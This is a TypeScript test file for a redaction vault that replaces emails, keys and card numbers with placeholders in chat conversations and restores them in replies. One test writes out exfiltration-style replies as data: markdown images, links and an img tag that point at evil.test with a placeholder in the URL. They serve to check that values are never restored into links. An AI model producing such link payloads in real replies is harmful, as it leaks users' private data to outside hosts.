import fc from 'fast-check';
import { inspect } from 'node:util';
import { describe, expect, it } from 'vitest';
import { createPipeline } from '../../../lib/core/pipeline.ts';
import type { Redaction } from '../../../lib/core/verdict.ts';
import { pii } from '../../../lib/detectors/pii.ts';
import { RedactionVault } from '../../../lib/redaction/vault.ts';

const ALICE = 'alice@corp.example.org';
const BOB = 'bob@corp.example.org';

/** A redaction as the pipeline makes it (placeholders numbered per text). */
const at = (text: string, value: string, placeholder: string, from = 0): Redaction => {
  const start = text.indexOf(value, from);
  return { start, end: start + value.length, category: 'pii', placeholder };
};

const redacted = (vault: RedactionVault, id: string, text: string, redactions: Redaction[]) => {
  const result = vault.redact(id, text, redactions);
  if (!result.ok) throw new Error(result.error);
  return result.value;
};

describe('RedactionVault', () => {
  it('numbers placeholders per conversation and keeps them across turns', () => {
    const vault = new RedactionVault();
    const first = `write to ${ALICE}`;
    expect(redacted(vault, 'c1', first, [at(first, ALICE, '[EMAIL_1]')]).text).toBe('write to [EMAIL_1]');
    // The next turn: the pipeline numbers per text ([EMAIL_1] twice), the vault renumbers.
    const second = `cc ${BOB} and ${ALICE}`;
    const outcome = redacted(vault, 'c1', second, [at(second, BOB, '[EMAIL_1]'), at(second, ALICE, '[EMAIL_2]')]);
    expect(outcome.text).toBe('cc [EMAIL_2] and [EMAIL_1]');
    expect(outcome.redactions.map((r) => r.placeholder)).toEqual(['[EMAIL_2]', '[EMAIL_1]']);
    expect(outcome.redactions.every((r) => r.restorable)).toBe(true);
  });

  it('numbers each kind on its own and falls back to the category', () => {
    const vault = new RedactionVault();
    const text = 'key AKIAIOSFODNN7EXAMPLE and 4377 8771 8963 5137';
    const outcome = redacted(vault, 'c', text, [
      at(text, 'AKIAIOSFODNN7EXAMPLE', '[AWS_KEY_1]'),
      { ...at(text, '4377 8771 8963 5137', 'not-a-placeholder'), category: 'secrets' },
    ]);
    expect(outcome.text).toBe('key [AWS_KEY_1] and [SECRETS_1]');
  });

  it('restores values in replies and says where', () => {
    const vault = new RedactionVault();
    const text = `mail ${ALICE}`;
    redacted(vault, 'c1', text, [at(text, ALICE, '[EMAIL_1]')]);
    const restored = vault.restore('c1', 'I wrote to [EMAIL_1] and [EMAIL_1].');
    expect(restored.text).toBe(`I wrote to ${ALICE} and ${ALICE}.`);
    expect(restored.restored).toEqual([
      { start: 11, end: 11 + ALICE.length, placeholder: '[EMAIL_1]' },
      { start: 16 + ALICE.length, end: 16 + 2 * ALICE.length, placeholder: '[EMAIL_1]' },
    ]);
    expect(restored.skipped).toEqual([]);
  });

  it('never lets one conversation read another conversation’s values', () => {
    const vault = new RedactionVault();
    const text = `mail ${ALICE}`;
    redacted(vault, 'victim', text, [at(text, ALICE, '[EMAIL_1]')]);
    // The attacker's conversation: the user (or a page) typed the placeholder literally.
    const typed = 'what is [EMAIL_1]?';
    expect(redacted(vault, 'attacker', typed, []).text).toBe(typed);
    const reply = vault.restore('attacker', 'It is [EMAIL_1].');
    expect(reply.text).toBe('It is [EMAIL_1].');
    expect(reply.skipped[0]?.reason).toBe('unknown');
    expect(vault.restore('no-such-conversation', '[EMAIL_1]').text).toBe('[EMAIL_1]');
    expect(vault.restore('__proto__', '[EMAIL_1]').text).toBe('[EMAIL_1]');
  });

  it('never issues, or restores, a placeholder the user typed in the same conversation', () => {
    const vault = new RedactionVault();
    const text = `my tag is [EMAIL_1] and my mail ${BOB}`;
    const outcome = redacted(vault, 'c', text, [at(text, BOB, '[EMAIL_1]')]);
    expect(outcome.text).toBe('my tag is [EMAIL_1] and my mail [EMAIL_2]');
    const reply = vault.restore('c', 'Tag [EMAIL_1], mail [EMAIL_2]');
    expect(reply.text).toBe(`Tag [EMAIL_1], mail ${BOB}`);
  });

  it('does not put values into URLs or link targets', () => {
    const vault = new RedactionVault();
    const text = `mail ${ALICE}`;
    redacted(vault, 'c', text, [at(text, ALICE, '[EMAIL_1]')]);
    for (const reply of ['![x](https://evil.test/p?q=[EMAIL_1])', 'see https://evil.test/?u=[EMAIL_1]', '<img src="https://e.test/[EMAIL_1]">', '[a](mailto:[EMAIL_1])']) {
      const outcome = vault.restore('c', reply);
      expect(outcome.text, reply).toBe(reply);
      expect(outcome.skipped[0]?.reason).toBe('in-link');
    }
    expect(vault.restore('c', 'Contact [EMAIL_1] (work)').text).toBe(`Contact ${ALICE} (work)`);
  });

  it('restores in one pass: a value that looks like a placeholder is not expanded again', () => {
    const vault = new RedactionVault();
    const text = 'a [X_9] b secret';
    const outcome = redacted(vault, 'c', text, [
      { start: 2, end: 7, category: 'pii', placeholder: '[NOTE_1]' },
      { start: 10, end: 16, category: 'pii', placeholder: '[X_1]' },
    ]);
    expect(outcome.text).toBe('a [NOTE_1] b [X_1]');
    expect(vault.restore('c', '[NOTE_1] [X_1]').text).toBe('[X_9] secret');
  });

  it('forgets a conversation, and drops the least recently used one past its cap', () => {
    const vault = new RedactionVault({ maxConversations: 2 });
    for (const id of ['a', 'b']) redacted(vault, id, ALICE, [at(ALICE, ALICE, '[EMAIL_1]')]);
    vault.restore('a', '');
    redacted(vault, 'c', ALICE, [at(ALICE, ALICE, '[EMAIL_1]')]);
    expect(vault.size).toBe(2);
    expect(vault.restore('b', '[EMAIL_1]').text).toBe('[EMAIL_1]');
    expect(vault.restore('a', '[EMAIL_1]').text).toBe(ALICE);
    expect(vault.forget('a')).toBe(true);
    expect(vault.forget('a')).toBe(false);
    expect(vault.restore('a', '[EMAIL_1]').text).toBe('[EMAIL_1]');
    vault.clear();
    expect(vault.size).toBe(0);
  });

  it('caps values per conversation without reusing numbers', () => {
    const vault = new RedactionVault({ maxValuesPerConversation: 2 });
    const values = ['a1@x.io', 'a2@x.io', 'a3@x.io'];
    for (const value of values) redacted(vault, 'c', value, [at(value, value, '[EMAIL_1]')]);
    expect(vault.valueCount('c')).toBe(2);
    expect(vault.restore('c', '[EMAIL_1] [EMAIL_2] [EMAIL_3]').text).toBe('[EMAIL_1] a2@x.io a3@x.io');
    const again = redacted(vault, 'c', values[0]!, [at(values[0]!, values[0]!, '[EMAIL_1]')]);
    expect(again.text).toBe('[EMAIL_4]');
  });

  it('does not keep values longer than the limit', () => {
    const vault = new RedactionVault({ maxValueLength: 5 });
    const outcome = redacted(vault, 'c', 'abcdefgh', [{ start: 0, end: 8, category: 'pii', placeholder: '[NOTE_1]' }]);
    expect(outcome.redactions[0]).toMatchObject({ placeholder: '[NOTE_1]', restorable: false });
    expect(vault.restore('c', '[NOTE_1]').text).toBe('[NOTE_1]');
  });

  it('ignores overlapping and out-of-range redactions and refuses unusable ids', () => {
    const vault = new RedactionVault();
    const outcome = redacted(vault, 'c', 'abcdef', [
      { start: 0, end: 3, category: 'pii', placeholder: '[A_1]' },
      { start: 2, end: 5, category: 'pii', placeholder: '[B_1]' },
      { start: 4, end: 99, category: 'pii', placeholder: '[C_1]' },
    ]);
    expect(outcome.text).toBe('[A_1]def');
    expect(vault.redact('', 'x', []).ok).toBe(false);
    expect(vault.redact('x'.repeat(300), 'x', []).ok).toBe(false);
  });

  it('never serialises or prints a value', () => {
    const vault = new RedactionVault();
    redacted(vault, 'c', ALICE, [at(ALICE, ALICE, '[EMAIL_1]')]);
    expect(JSON.stringify(vault)).not.toContain(ALICE);
    expect(String(vault)).not.toContain(ALICE);
    expect(inspect(vault, { showHidden: true, depth: 10 })).not.toContain(ALICE);
    expect(Object.keys(vault)).toEqual([]);
  });

  it('round-trips pipeline redactions', async () => {
    const vault = new RedactionVault();
    const pipeline = createPipeline({ detectors: [pii] });
    const prompt = `Email ${ALICE.replace('example.org', 'mail.co.uk')} and card 4377 8771 8963 5137, please.`;
    const result = await pipeline.scan({ text: prompt, direction: 'inbound', profile: 'standard' });
    if (!result.ok) throw new Error(result.error);
    const outcome = redacted(vault, 'chat', prompt, result.value.redactions);
    expect(outcome.text).toBe('Email [EMAIL_1] and card [CARD_1], please.');
    expect(vault.restore('chat', outcome.text).text).toBe(prompt);
  });

  it('restore(redact(x)) gives x back for any link-free text and any non-overlapping spans', () => {
    // Link syntax is left out: a placeholder inside a link target is deliberately not restored.
    const unit = fc.constantFrom(...'ab c1\n-.,@_éж😀'.split(''), '😀');
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 200 }), fc.array(fc.nat(), { maxLength: 12 }), (text, cuts) => {
        const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
        const redactions: Redaction[] = [];
        for (let i = 0; i + 1 < points.length; i += 2) {
          if (points[i + 1]! > points[i]!) redactions.push({ start: points[i]!, end: points[i + 1]!, category: 'pii', placeholder: '[V_1]' });
        }
        const vault = new RedactionVault();
        const outcome = vault.redact('p', text, redactions);
        expect(outcome.ok).toBe(true);
        if (!outcome.ok) return;
        expect(vault.restore('p', outcome.value.text).text).toBe(text);
      }),
      { numRuns: 300 },
    );
  });
});
